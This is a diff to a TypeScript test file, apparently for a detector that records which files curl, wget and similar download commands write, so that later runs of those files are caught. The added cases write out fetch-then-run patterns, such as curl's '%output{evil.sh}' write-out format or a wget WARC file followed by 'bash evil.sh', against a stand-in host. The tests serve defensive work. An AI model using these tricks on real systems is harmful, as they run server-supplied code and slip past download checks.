@@ -59,6 +59,8 @@ describe("detectDownloads", () => {
     // Options read from a file (curl -K, a .curlrc in CURL_HOME, WGETRC=) or a wgetrc command
     // (wget -e) can name the saved file or the URLs' list.
     ["curl -K evil.cfg", ["./"]],
+    ["curl -w '%{http_code}' -o /dev/null https://x.test/a", []],
+    ["wget --warc-file d/evil https://x.test/a.sh", ["a.sh", "d/"]],
     ["curl -sKevil.cfg https://x.test/a", ["./"]],
     ["curl --config evil.cfg --output-dir d", ["d/"]],
     ["curl --config=evil.cfg", ["./"]],
@@ -493,6 +495,9 @@ describe("other files a downloader fills with what the server sent", () => {
     ["curl -sD h.sh https://x.test/a", "bash h.sh"],
     ["curl --trace-ascii=t.sh https://x.test/a", "sh t.sh"],
     ["wget -S -o log.sh https://x.test/a", "bash log.sh"],
+    // curl 8.3's %output{file} in a -w format writes what follows, a header the server sent, to it.
+    ["curl -s -o /dev/null -w '%output{evil.sh}%header{x-run}' https://x.test/a", "bash evil.sh"],
+    ["curl -sw'%output{>>evil.sh}%{header_json}' https://x.test/a", "sh evil.sh"],
   ])("records %s, so %s asks", async (download, run) => {
     const ws = await mkdtemp(path.join(tmpdir(), "written-downloads-"));
     const facts = { downloadedFiles: new Set<string>() };
@@ -544,6 +549,10 @@ describe("what a command adds to a folder it downloads into", () => {
     "wget -i urls.txt",
     "aria2c https://x.test/dl",
     "http -d https://x.test/dl",
+    // A WARC archive holds what the server sent as sent (bash runs it line by line), named after
+    // --warc-file's value (.warc, .warc.gz, split into -00001…).
+    "wget --warc-file=evil --no-warc-compression -O /dev/null https://x.test/a",
+    "curl -w @fmt.txt -o /dev/null https://x.test/a",
   ])("records the file %s saved under the server's name", async (command) => {
     const { ws, facts, record } = await setUp(command, ["urls.txt", "notes.md"]);
     await writeFile(path.join(ws, "evil.sh"), "echo evil\n");
